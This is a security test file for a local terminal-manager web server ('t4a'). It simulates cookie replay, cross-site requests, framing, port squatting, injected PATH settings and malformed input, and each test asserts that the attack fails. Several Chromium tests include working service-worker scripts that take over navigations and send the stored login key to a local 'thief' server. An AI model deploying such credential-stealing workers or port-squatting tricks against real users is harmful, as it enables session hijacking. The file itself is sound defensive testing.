// Attacks on the web server (issue 22): a leaked cookie, a page on another port of 127.0.0.1
// (same site: it receives the cookie and may try to frame the UI), cross-site requests carrying
// the cookie, a huge body, a malformed path, malformed WebSocket control messages, and a server
// on all interfaces that must answer at the names it prints. Each tries to get in and fails.
import { afterAll, beforeAll, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { Sandbox, waitFor } from "../harness.ts";

const CHROMIUM = ["/usr/bin/chromium", "/usr/bin/chromium-browser"].find((path) => existsSync(path));
let sandbox: Sandbox;
let base: string;
let token: string;

const env = () => ({ ...sandbox.env, XDG_STATE_HOME: join(sandbox.dir, "state"), HOME: sandbox.dir });
async function t4a(args: string[]) {
  const child = Bun.spawn([join(import.meta.dir, "../../dist/t4a"), ...args], {
    cwd: sandbox.dir,
    env: env(),
    stdout: "pipe",
    stderr: "pipe",
  });
  const [stdout, stderr, code] = await Promise.all([
    new Response(child.stdout).text(),
    new Response(child.stderr).text(),
    child.exited,
  ]);
  return { code, stdout: stdout.trim(), stderr: stderr.trim() };
}

/** Logs in as a browser would: the cookie it got (name=value), and the key the page keeps (from the redirect's fragment). */
async function browserLogin(): Promise<{ cookie: string; key: string }> {
  const response = await fetch((await t4a(["web"])).stdout, {
    redirect: "manual",
    headers: { "user-agent": "attack-test" },
  });
  expect(response.status).toBe(302);
  const key = /#t4a-key=([0-9a-f]+)$/.exec(response.headers.get("location") ?? "")?.[1] ?? "";
  return { cookie: response.headers.get("set-cookie")!.split(";")[0]!, key };
}

async function login(): Promise<string> {
  return (await browserLogin()).cookie;
}

beforeAll(async () => {
  sandbox = new Sandbox();
  const started = await t4a(["web", "--listen", "127.0.0.1:0"]);
  expect(started.code).toBe(0);
  base = started.stdout.replace(/\/\?login=.*$/, "");
  token = readFileSync(join(sandbox.dir, "state", "t4a", "web", "token"), "utf8").trim();
});
afterAll(() => sandbox.cleanup());

test("the cookie is a login of its own, never the token; it expires, and --logout-all ends every one", async () => {
  const { cookie, key } = await browserLogin();
  const page = { "x-t4a-key": key, "sec-fetch-site": "same-origin" };
  const [name, value] = cookie.split("=");
  expect(name).toBe(`t4a_login_${new URL(base).port}`);
  expect(value).not.toBe(token);
  expect(readFileSync(join(sandbox.dir, "state", "t4a", "web", "logins.json"), "utf8")).not.toContain(value!); // kept hashed
  expect(key).toMatch(/^[0-9a-f]{64}$/);
  expect(key).not.toBe(token);
  expect(readFileSync(join(sandbox.dir, "state", "t4a", "web", "logins.json"), "utf8")).not.toContain(key); // derived, never stored
  expect((await fetch(`${base}/api/sessions`, { headers: { cookie, ...page } })).status).toBe(200);
  // The API token as a cookie is nothing.
  expect((await fetch(`${base}/api/sessions`, { headers: { cookie: `${name}=${token}`, ...page } })).status).toBe(401);
  expect((await t4a(["web"])).stderr).toContain("1 browser login");
  const revoked = await t4a(["web", "--logout-all"]);
  expect(revoked.stderr).toContain("ended 1 browser login");
  expect((await fetch(`${base}/api/sessions`, { headers: { cookie, ...page } })).status).toBe(401);
  // An expired login is refused too (the file's clock moved back a week).
  const again = await browserLogin();
  const path = join(sandbox.dir, "state", "t4a", "web", "logins.json");
  const logins = JSON.parse(readFileSync(path, "utf8")) as Record<string, { expires: number }>;
  for (const entry of Object.values(logins)) entry.expires = Date.now() - 1;
  writeFileSync(path, JSON.stringify(logins));
  expect(
    (
      await fetch(`${base}/api/sessions`, {
        headers: { cookie: again.cookie, "x-t4a-key": again.key, "sec-fetch-site": "same-origin" },
      })
    ).status,
  ).toBe(401);
  // Scripts with the token are not browsers: no login needed.
  expect((await fetch(`${base}/api/sessions`, { headers: { authorization: `Bearer ${token}` } })).status).toBe(200);
});

test("a request carrying the login from anywhere but our own page is refused (Sec-Fetch-Site)", async () => {
  const { cookie, key } = await browserLogin();
  const as = (site: string, path = "/api/sessions", method = "GET") =>
    fetch(`${base}${path}`, {
      method,
      headers: { cookie, "x-t4a-key": key, "sec-fetch-site": site },
      redirect: "manual",
    }).then((r) => r.status);
  expect(await as("same-origin")).toBe(200);
  expect(await as("same-site")).toBe(403); // another port of 127.0.0.1
  expect(await as("cross-site")).toBe(403);
  expect(await as("none")).toBe(403); // a typed URL may load the page, not call the API
  expect(await as("none", "/")).toBe(200);
  expect(await as("same-site", "/")).toBe(403);
  expect(await as("same-site", "/api/sessions", "POST")).toBe(403);
  expect(
    (
      (await (await fetch(`${base}/api/sessions`, { headers: { authorization: `Bearer ${token}` } })).json()) as {
        terminals: unknown[];
      }
    ).terminals,
  ).toEqual([]);
});

test("every answer forbids framing and loading from elsewhere", async () => {
  const cookie = await login();
  for (const [path, headers] of [
    ["/", { cookie }],
    ["/api/sessions", { cookie }],
    ["/api/sessions", {}],
    ["/nope", {}],
  ] as const) {
    const response = await fetch(`${base}${path}`, { headers });
    expect(response.headers.get("x-frame-options")).toBe("DENY");
    expect(response.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
    expect(response.headers.get("content-security-policy")).toContain("default-src 'self'");
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  }
});

test("a 40 MB body, a malformed path, a malformed control message: refused cleanly, nothing typed, the server still serves", async () => {
  const auth = { authorization: `Bearer ${token}` };
  const big = await fetch(`${base}/api/sessions`, {
    method: "POST",
    headers: { ...auth, "content-type": "application/json" },
    body: `{"cmd_args":["true"],"env":{"X":"${"x".repeat(40 * 1024 * 1024)}"}}`,
  }).then(
    (r) => r.status,
    () => "closed",
  );
  expect([413, "closed"]).toContain(big);
  const bad = await fetch(`${base}/api/sessions/%ZZ/text`, { headers: auth });
  expect(bad.status).toBe(400);
  expect(await bad.json()).toMatchObject({ ok: false, code: "bad_request" });
  expect(readFileSync(join(sandbox.dir, "run", "t4a.log"), "utf8")).not.toContain("internal error");

  const id = (await t4a(["create", "--", "bash", "--norc", "--noprofile"])).stdout;
  await waitFor(async () => /[$#] ?$/.test((await t4a(["text", id, "--tail", "1"])).stdout), 10_000, "the prompt");
  const socket = new WebSocket(`${base.replace("http", "ws")}/api/sessions/${id}/terminal`, {
    headers: { ...auth, origin: base },
  } as unknown as string[]);
  await new Promise<void>(
    (resolve, reject) => ((socket.onopen = () => resolve()), (socket.onerror = () => reject(new Error("refused")))),
  );
  for (const message of ["\x01NaN;NaN", "\x01-5;10", "\x01;", "\x0199999;1", `\x01${"1".repeat(5000)}`])
    socket.send(message);
  socket.send("\x01100;30");
  socket.send("echo typed-after\r");
  await waitFor(async () => (await t4a(["text", id])).stdout.includes("\ntyped-after"), 10_000, "the text after them");
  const screen = (await t4a(["text", id])).stdout;
  expect(screen).not.toContain("NaN");
  expect(screen).not.toContain("-5;10");
  expect(JSON.parse((await t4a(["list", "--json"])).stdout).terminals[0]).toMatchObject({ cols: 100, rows: 30 });
  socket.close();
  await t4a(["kill", id]);
});

test.if(CHROMIUM !== undefined)(
  "in chromium: a page on another port of 127.0.0.1 gets a login (not the token) and cannot frame the UI",
  async () => {
    const { chromium } = await import("playwright-core");
    let seenCookie = "";
    const evil = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch(request) {
        seenCookie = request.headers.get("cookie") ?? "";
        return new Response(`<iframe id="ui" src="${base}/" width="800" height="600"></iframe>`, {
          headers: { "content-type": "text/html" },
        });
      },
    });
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
    });
    try {
      const page = await browser.newPage();
      await page.goto((await t4a(["web"])).stdout);
      await page.waitForSelector("#new");
      await page.goto(`http://127.0.0.1:${evil.port}/`);
      await page.waitForSelector("#ui");
      await page.waitForTimeout(500); // the frame's navigation settles (blocked, or not)
      // Cookies are not port-scoped: the other server sees the login cookie, never the API token.
      expect(seenCookie).toContain(`t4a_login_${new URL(base).port}=`);
      expect(seenCookie).not.toContain(token);
      const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
      const framedApp = frame ? await frame.$("#new").catch(() => null) : null;
      expect(framedApp).toBeNull();
    } finally {
      await browser.close();
      evil.stop(true);
    }
  },
  60_000,
);

test("no HTTP request chooses the environment the daemon runs programs with (client_env: PATH, XDG_CONFIG_HOME)", async () => {
  // What an attacker can write: a directory of fake CLIs and an agents.json naming one of them.
  const evil = join(sandbox.dir, "evil");
  const marker = join(sandbox.dir, "evil-ran");
  mkdirSync(join(evil, "config", "t4a"), { recursive: true });
  for (const cli of ["claude", "codex", "gemini", "qwen", "opencode", "evil"]) {
    writeFileSync(join(evil, cli), `#!/bin/sh\necho ${cli} >> ${marker}\necho 1.0\n`, { mode: 0o755 });
  }
  writeFileSync(join(evil, "config", "t4a", "agents.json"), JSON.stringify({ evil: { cli: join(evil, "evil") } }));
  const auth = { authorization: `Bearer ${token}` };
  const asked = [
    fetch(`${base}/api/agents?client_env=${encodeURIComponent(JSON.stringify({ PATH: evil }))}`, { headers: auth }),
    fetch(
      `${base}/api/agents?check=true&client_env=${encodeURIComponent(JSON.stringify({ PATH: "/usr/bin:/bin", XDG_CONFIG_HOME: join(evil, "config") }))}`,
      { headers: auth },
    ),
    fetch(`${base}/api/sessions`, {
      method: "POST",
      headers: { ...auth, "content-type": "application/json", origin: base },
      body: JSON.stringify({ agent: "evil", client_env: { PATH: evil, XDG_CONFIG_HOME: join(evil, "config") } }),
    }),
  ];
  const answers = await Promise.all(asked);
  for (const answer of answers) {
    expect(answer.status).toBe(400);
    expect(((await answer.json()) as { error: string }).error).toContain("client_env");
  }
  expect(existsSync(marker)).toBe(false);
  // The daemon's own view is unchanged: no agent "evil", nothing from the attacker's PATH.
  const own = (await (await fetch(`${base}/api/agents`, { headers: auth })).json()) as {
    agents: Array<{ name: string; path: string | null }>;
  };
  expect(own.agents.map((agent) => agent.name)).not.toContain("evil");
  expect(own.agents.some((agent) => agent.path?.startsWith(evil))).toBe(false);
  expect(existsSync(marker)).toBe(false);
  expect(JSON.parse((await t4a(["list", "--json"])).stdout).terminals).toEqual([]);
});

test("the login cookie (which every port of 127.0.0.1 receives) is not a login: replayed outside the page it does nothing", async () => {
  const { cookie, key } = await browserLogin();
  const create = (headers: Record<string, string>) =>
    fetch(`${base}/api/sessions`, {
      method: "POST",
      headers: { "content-type": "application/json", ...headers },
      body: JSON.stringify({ name: "replayed", cmd_args: ["sleep", "60"] }),
    }).then((r) => r.status);
  const page = { "sec-fetch-site": "same-origin", origin: base };
  // What another user's server on 127.0.0.1 gets from the browser: the cookie. Replayed with curl,
  // bare or dressed up as the page, it is refused.
  expect(await create({ cookie })).toBe(401);
  expect(await create({ cookie, ...page })).toBe(401);
  expect(await create({ cookie, ...page, "x-t4a-key": "0".repeat(64) })).toBe(401);
  expect((await fetch(`${base}/api/sessions`, { headers: { cookie, ...page } })).status).toBe(401);
  const socket = new WebSocket(`${base.replace("http", "ws")}/api/sessions/x/terminal`, {
    headers: { cookie, origin: base },
  } as unknown as string[]);
  expect(
    await new Promise(
      (resolve) => ((socket.onopen = () => resolve("open")), (socket.onerror = () => resolve("refused"))),
    ),
  ).toBe("refused");
  // The key alone is nothing either, and the whole login replayed without a browser's headers is refused.
  expect(await create({ "x-t4a-key": key })).toBe(401);
  expect(await create({ cookie, "x-t4a-key": key })).toBe(403);
  expect(JSON.parse((await t4a(["list", "--json"])).stdout).terminals).toEqual([]);
  // The page itself, with both halves, gets in.
  expect((await fetch(`${base}/api/sessions`, { headers: { cookie, "x-t4a-key": key, ...page } })).status).toBe(200);
});

test("no worker may run on the page's origin, and a login (or a forgotten login) clears what the origin held", async () => {
  const response = await fetch((await t4a(["web"])).stdout, { redirect: "manual" });
  expect(response.status).toBe(302);
  expect(response.headers.get("clear-site-data")).toContain('"storage"');
  expect(response.headers.get("clear-site-data")).not.toContain('"cookies"'); // those are every port's
  expect(response.headers.get("content-security-policy")).toContain("worker-src 'none'");
  const cookie = response.headers.get("set-cookie")!.split(";")[0]!;
  await t4a(["web", "--logout-all"]);
  const refused = await fetch(`${base}/`, { headers: { cookie, "sec-fetch-site": "none" } });
  expect(refused.status).toBe(401);
  expect(refused.headers.get("clear-site-data")).toContain('"storage"');
  // The browser's update check of a worker someone else registered here removes it.
  const update = await fetch(`${base}/sw.js`, { headers: { "service-worker": "script" } });
  expect(update.status).toBe(404);
  expect(update.headers.get("clear-site-data")).toContain('"storage"');
});

test.if(CHROMIUM !== undefined)(
  "in chromium: a program that takes the remembered port while the daemon is down gets no login from the open page",
  async () => {
    const { chromium } = await import("playwright-core");
    const port = Number(new URL(base).port);
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
    });
    const seen: Array<{ path: string; headers: Record<string, string> }> = [];
    let squatter: ReturnType<typeof Bun.serve> | undefined;
    try {
      const page = await browser.newPage();
      await page.goto((await t4a(["web"])).stdout);
      await page.waitForSelector("#new");
      const key = await page.evaluate(() => sessionStorage.getItem("t4a-key"));
      await t4a(["shutdown"]);
      // Another user binds the port before anything starts the daemon again, and answers like t4a would.
      squatter = await waitFor(
        () => {
          try {
            return Bun.serve({
              hostname: "127.0.0.1",
              port,
              fetch(request) {
                seen.push({
                  path: new URL(request.url).pathname + new URL(request.url).search,
                  headers: Object.fromEntries(request.headers),
                });
                const path = new URL(request.url).pathname;
                if (path === "/api/hello") return Response.json({ proof: "f".repeat(64) });
                if (path === "/api/events")
                  return new Response(": t4a events\n\n", { headers: { "content-type": "text/event-stream" } });
                // A reload lands here: the squatter's page reads what the origin keeps.
                if (path === "/")
                  return new Response(`<script>document.title = "key:" + sessionStorage.getItem("t4a-key")</script>`, {
                    headers: { "content-type": "text/html" },
                  });
                return Response.json(path === "/api/sessions" ? { terminals: [] } : {});
              },
            });
          } catch {
            return undefined;
          }
        },
        10_000,
        "the port to be free",
      );
      // The page notices, tries again, and stops at the first answer that is not its server's.
      await page.waitForFunction(
        () => (document.querySelector("#banner")?.textContent ?? "").includes("Something else answers"),
        undefined,
        { timeout: 20_000 },
      );
      expect(seen.length).toBeGreaterThan(0);
      for (const request of seen) {
        expect(request.headers["x-t4a-key"]).toBeUndefined();
        expect(request.headers["sec-websocket-protocol"] ?? "").not.toContain("t4a-key");
        if (key) expect(JSON.stringify(request)).not.toContain(key);
      }
      // Once the daemon was seen gone the key lives in the page's memory only: a reload into the squatter's page finds none.
      await page.reload();
      await page.waitForFunction(() => document.title.startsWith("key:"));
      expect(await page.title()).toBe("key:null");
      const stolen = seen
        .map((request) => request.headers.cookie ?? "")
        .find((cookie) => cookie.includes(`t4a_login_${port}=`));
      squatter.stop(true);
      squatter = undefined;
      // The daemon comes back at its address; what the squatter kept is no way in.
      await waitFor(
        async () => (await t4a(["web", "--listen", `127.0.0.1:${port}`])).code === 0,
        15_000,
        "the web server back",
      );
      expect(stolen).toBeDefined(); // cookies are not port-scoped: the squatter has it
      for (const headers of [
        { cookie: stolen! },
        { cookie: stolen!, "sec-fetch-site": "same-origin", origin: base },
      ] as Record<string, string>[]) {
        const replay = await fetch(`${base}/api/sessions`, {
          method: "POST",
          headers: { "content-type": "application/json", ...headers },
          body: JSON.stringify({ cmd_args: ["sleep", "60"] }),
        });
        expect(replay.status).toBe(401);
      }
      expect(JSON.parse((await t4a(["list", "--json"])).stdout).terminals).toEqual([]);
    } finally {
      squatter?.stop(true);
      await browser.close();
    }
  },
  90_000,
);

test.if(CHROMIUM !== undefined)(
  "in chromium: a service worker planted at the remembered port while the daemon was down is gone after the next login",
  async () => {
    const { chromium } = await import("playwright-core");
    const port = Number(new URL(base).port);
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
    });
    const stolen: string[] = [];
    const thief = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: (request) => (
        stolen.push(request.url), new Response("", { headers: { "access-control-allow-origin": "*" } })
      ),
    });
    const worker = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  const url = new URL(event.request.url);
  if (event.request.mode === "navigate" && !url.searchParams.has("login")) {
    event.respondWith(new Response("<p id=evil>evil</p><script>fetch('http://127.0.0.1:${thief.port}/k?' + encodeURIComponent(location.hash + ' ' + sessionStorage.getItem('t4a-key')))</script>", { headers: { "content-type": "text/html" } }));
  } else event.respondWith(fetch(event.request));
});`;
    let squatter: ReturnType<typeof Bun.serve> | undefined;
    try {
      const page = await browser.newPage();
      await page.goto((await t4a(["web"])).stdout);
      await page.waitForSelector("#new");
      await t4a(["shutdown"]);
      squatter = await waitFor(
        () => {
          try {
            return Bun.serve({
              hostname: "127.0.0.1",
              port,
              fetch(request) {
                if (new URL(request.url).pathname === "/sw.js")
                  return new Response(worker, { headers: { "content-type": "text/javascript" } });
                return new Response(
                  `<script>navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => (document.title = "planted"))</script>`,
                  { headers: { "content-type": "text/html" } },
                );
              },
            });
          } catch {
            return undefined;
          }
        },
        10_000,
        "the port to be free",
      );
      // The user reloads while the port is someone else's: a worker is registered on the origin.
      await page.reload();
      await page.waitForFunction(() => document.title === "planted", undefined, { timeout: 15_000 });
      squatter.stop(true);
      squatter = undefined;
      await waitFor(
        async () => (await t4a(["web", "--listen", `127.0.0.1:${port}`])).code === 0,
        15_000,
        "the web server back",
      );
      await t4a(["web", "--logout-all"]);
      // A fresh login in the same browser: the real page, and the worker gone with what it could read.
      await page.goto((await t4a(["web"])).stdout);
      await page.waitForSelector("#new", { timeout: 15_000 });
      expect(await page.$("#evil")).toBeNull();
      expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((list) => list.length))).toBe(0);
      await page.reload();
      await page.waitForSelector("#new", { timeout: 15_000 });
      expect(stolen).toEqual([]);
    } finally {
      squatter?.stop(true);
      thief.stop(true);
      await browser.close();
    }
  },
  90_000,
);

test.if(CHROMIUM !== undefined)(
  "in chromium: a worker that takes every navigation (the login URL too) is gone by the next one: the browser's update check meets the real server",
  async () => {
    const { chromium } = await import("playwright-core");
    const port = Number(new URL(base).port);
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
    });
    const stolen: string[] = [];
    const thief = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: (request) => (
        stolen.push(request.url), new Response("", { headers: { "access-control-allow-origin": "*" } })
      ),
    });
    const worker = `self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  const url = new URL(event.request.url);
  if (event.request.mode === "navigate") {
    event.respondWith(new Response("<p id=evil>evil</p><script>fetch('http://127.0.0.1:${thief.port}/k?' + encodeURIComponent(location.hash + ' ' + sessionStorage.getItem('t4a-key')))</script>", { headers: { "content-type": "text/html" } }));
  } else event.respondWith(fetch(event.request));
});`;
    let squatter: ReturnType<typeof Bun.serve> | undefined;
    try {
      const page = await browser.newPage();
      await page.goto((await t4a(["web"])).stdout);
      await page.waitForSelector("#new");
      await t4a(["shutdown"]);
      squatter = await waitFor(
        () => {
          try {
            return Bun.serve({
              hostname: "127.0.0.1",
              port,
              fetch(request) {
                if (new URL(request.url).pathname === "/sw.js")
                  return new Response(worker, { headers: { "content-type": "text/javascript" } });
                return new Response(
                  `<script>navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => (document.title = "planted"))</script>`,
                  { headers: { "content-type": "text/html" } },
                );
              },
            });
          } catch {
            return undefined;
          }
        },
        10_000,
        "the port to be free",
      );
      // The user reloads while the port is someone else's: a worker is registered on the origin.
      await page.reload();
      await page.waitForFunction(() => document.title === "planted", undefined, { timeout: 15_000 });
      squatter.stop(true);
      squatter = undefined;
      await waitFor(
        async () => (await t4a(["web", "--listen", `127.0.0.1:${port}`])).code === 0,
        15_000,
        "the web server back",
      );
      // The first navigation is the worker's (a login URL opened now is lost to it: end it with --logout-all)...
      await page.goto((await t4a(["web"])).stdout);
      await page.waitForSelector("#evil");
      await waitFor(() => stolen.length > 0, 10_000, "the worker's page to report");
      stolen.length = 0;
      // ...and the browser checks the worker's script with the real server, which ends it.
      await waitFor(
        async () =>
          (await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((list) => list.length))) === 0,
        15_000,
        "the worker to be gone",
      );
      await t4a(["web", "--logout-all"]);
      await page.goto((await t4a(["web"])).stdout);
      await page.waitForSelector("#new", { timeout: 15_000 });
      expect(await page.$("#evil")).toBeNull();
      expect(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((list) => list.length))).toBe(0);
      await page.reload();
      await page.waitForSelector("#new", { timeout: 15_000 });
      expect(stolen).toEqual([]);
    } finally {
      squatter?.stop(true);
      thief.stop(true);
      await browser.close();
    }
  },
  90_000,
);

test("listening on every interface: the printed URL works, and so does each address it says it answers to", async () => {
  const all = await t4a(["web", "--listen", "0.0.0.0:0"]);
  expect(all.code).toBe(0);
  const url = all.stdout.replace(/\/\?login=.*$/, "");
  expect(url).toStartWith("http://127.0.0.1:");
  const port = new URL(url).port;
  const auth = { authorization: `Bearer ${token}` };
  expect((await fetch(`${url}/api/sessions`, { headers: auth })).status).toBe(200);
  const lan = Object.values(networkInterfaces())
    .flatMap((list) => list ?? [])
    .find((entry) => entry.family === "IPv4" && !entry.internal);
  if (lan) {
    expect(all.stderr).toContain(lan.address);
    expect((await fetch(`http://${lan.address}:${port}/api/sessions`, { headers: auth })).status).toBe(200);
  }
  expect((await fetch(`${url}/api/sessions`, { headers: { ...auth, host: "evil.example" } })).status).toBe(403);
  await t4a(["web", "--stop"]);
});
